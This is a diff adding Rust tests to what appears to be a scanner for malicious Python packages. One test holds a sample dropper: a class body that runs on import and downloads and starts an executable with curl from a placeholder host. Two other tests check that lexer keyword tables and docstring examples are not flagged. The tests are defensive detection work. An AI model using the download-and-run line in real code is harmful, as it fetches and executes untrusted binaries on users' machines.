@@ -493,3 +493,62 @@ fn persistence_path_built_at_run_time_is_found() {
     );
     assert!(rules(&verdict).contains(&"persistence"), "{verdict:#?}");
 }
+
+#[test]
+fn class_body_runs_when_the_module_is_imported() {
+    // Reconstruction of a common dropper shape: the download-and-start line sits in a
+    // class body (outside any method), which Python runs when the class is defined.
+    let verdict = assert_level(
+        &[
+            PKG_INFO,
+            ("fixture/__init__.py", "from .core import fixture\n"),
+            (
+                "fixture/core.py",
+                "import os\nclass fixture:\n    try:\n        \
+                 os.system('curl -s https://cdn.example.invalid/a.exe -o a.exe && a.exe')\n    \
+                 except Exception:\n        pass\n",
+            ),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert!(
+        verdict
+            .reasons
+            .iter()
+            .any(|r| r.rule == "download-run" && r.phase == CodePhase::Import),
+        "{verdict:#?}"
+    );
+}
+
+#[test]
+fn keyword_tables_in_a_class_body_are_data() {
+    // A syntax highlighter's lexer keeps keyword lists and token tables (built with calls
+    // like `bygroups(...)`) as class attributes: words such as `@sw_hide` there are data.
+    let verdict = verdict(&[
+        PKG_INFO,
+        ("fixture/__init__.py", "from .lexer import FixtureLexer\n"),
+        (
+            "fixture/lexer.py",
+            "def bygroups(*a):\n    return a\n\
+             class FixtureLexer:\n    \
+             macros = '@sw_hide @sw_show @sw_minimize @username @computername'\n    \
+             tokens = {'root': [(r'\\s+', bygroups('Text'))]}\n",
+        ),
+    ]);
+    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
+}
+
+#[test]
+fn code_examples_in_docstrings_are_not_payloads() {
+    // A docstring showing how to use a network API is documentation, not code that runs.
+    let verdict = verdict(&[
+        PKG_INFO,
+        ("fixture/__init__.py", "from .adapter import Adapter\n"),
+        (
+            "fixture/adapter.py",
+            "class Adapter:\n    \"\"\"\n    Example::\n\n        import requests\n        \
+             s = requests.Session()\n        s.mount('https://198.51.100.7', Adapter())\n    \"\"\"\n",
+        ),
+    ]);
+    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
+}
